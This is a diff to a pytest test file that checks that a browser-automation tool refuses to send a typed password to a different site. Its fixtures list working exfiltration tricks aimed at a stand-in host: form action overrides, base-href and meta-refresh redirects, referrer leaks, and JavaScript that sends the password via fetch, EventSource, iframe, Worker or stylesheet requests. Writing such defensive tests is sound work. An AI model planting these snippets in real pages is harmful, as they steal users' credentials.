@@ -30,6 +30,16 @@ async def keeper(caller: Caller) -> Caller:
     site.page("/308", "", status=308, headers=away)
     site.page("/302", "", status=302, headers=away)
     site.page("/twice", "", status=307, headers={"Location": "/307"})
+    site.page(
+        "/refreshed",
+        f"""<script>document.write('<meta http-equiv=refresh content="0;url='
+      + '{site.other.url("/in")}' + location.search + '">')</script>""",
+    )
+    site.page(
+        "/telling",
+        f"""<meta name=referrer content=unsafe-url><title>Told</title>
+      <img src='{site.other.url("/in")}'>""",
+    )
     return replace(caller, principal=replace(caller.principal, tenant=tenant))
 
 
@@ -56,6 +66,15 @@ ELSEWHERE = {
     "sent on for good": form("/308"),
     "sent on twice": form("/twice"),
     "by the button": form("/in").replace("<button", '<button formaction="OTHER/in"'),
+    "by an image": form("/in").replace(
+        "<button>",
+        '<input type=image id=i alt=Go width=50 height=20 formaction="OTHER/in"><button hidden>',
+    ),
+    "by a button outside": form("/in")
+    + '<button form=f formaction="OTHER/in" formmethod=get>Elsewhere</button>',
+    "by another base": '<base href="OTHER/">' + form("in"),
+    "by a page in between": form("/refreshed", method="get"),
+    "by a page that names where it was": form("/telling", method="get"),
     "at the last moment": form("/in")
     + "<script>f.onsubmit = () => { f.action = 'OTHER/in' }</script>",
     "under another name": form("OTHER/in")
@@ -65,22 +84,33 @@ ELSEWHERE = {
 }
 
 
+LATER = {"by a page in between", "by a page that names where it was"}
+
+
 @pytest.mark.parametrize("way", ELSEWHERE)
 async def test_a_form_that_leaves_the_secret_s_site_is_not_sent(keeper: Caller, way: str) -> None:
     other = keeper.site.other
     await keeper.show(ELSEWHERE[way].replace("OTHER", other.url("")))
     await keeper.ok("fill", selector="[name=pw]", value="<PASSWORD>")
-    reply = await keeper.reply("click", selector="button")
-    if way != "into a new tab":
-        assert reply.error is not None, reply.text
-        assert reply.error.code == "secret_refused"
-        assert "was not sent" in reply.text
+    button = {"by an image": "#i", "by a button outside": "text=Elsewhere"}.get(way, "button")
+    reply = await keeper.reply("click", selector=button)
+    if way in LATER:
+        # The page in between is its own site's, and is given it.
+        await keeper.site.wait_asked("/telling" if "names" in way else "/refreshed")
+        await keeper.ok("navigate", url=keeper.site.url("/in"))
+        assert carried(other) == []
+        return
+    assert reply.error is not None, reply.text
+    assert reply.error.code == "secret_refused"
+    assert "was not sent" in reply.text
     assert VALUE not in reply.text
     # The page is still there, and knows how to send it where it belongs.
     assert "<PASSWORD>" in await keeper.text("snapshot")
     assert carried(other) == []
 
 
+FRAME = """document.body.append(Object.assign(document.createElement('iframe'),
+  {src: 'OTHER/in?' + encodeURIComponent(pw.value)}))"""
 WORKER = """new Worker(window.URL.createObjectURL(new Blob([`fetch('OTHER/in', {method: 'POST',
   mode: 'no-cors', body: ${JSON.stringify(pw.value)}})`])))"""
 SHEET = """document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet',
@@ -98,6 +128,10 @@ SHEET = """document.head.append(Object.assign(document.createElement('link'), {r
         "new Image().src = 'OTHER/in?' + encodeURIComponent(pw.value)",
         "location.href = 'OTHER/in?' + encodeURIComponent(pw.value)",
         "window.open('OTHER/in?' + encodeURIComponent(btoa(pw.value)))",
+        "new EventSource('OTHER/in?' + encodeURIComponent(pw.value))",
+        "location.replace('OTHER/in#' + pw.value + '?' + btoa(pw.value))",
+        "fetch('OTHER/in', {mode: 'no-cors', headers: {accept: pw.value}})",
+        FRAME,
         WORKER,
         SHEET,
     ],
